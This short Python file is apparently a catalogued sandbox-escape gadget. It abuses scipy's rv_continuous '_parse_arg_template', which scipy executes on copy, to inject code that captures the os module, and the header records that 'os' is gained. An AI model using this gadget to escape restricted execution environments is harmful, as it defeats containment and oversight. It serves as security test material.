# gained: module os
import copy
from typing import Any

from scipy.stats import rv_continuous

CODE = """
import os
def _parse_args(self, *a, **k):
    self.found = os
    return (), 0, 1
_parse_args_rvs = _parse_args_stats = _parse_args
"""


def attack(path: str) -> Any:
    dist: Any = rv_continuous(name="a")
    dist._parse_arg_template = CODE
    other: Any = copy.copy(dist)
    other.support()
    return other.found
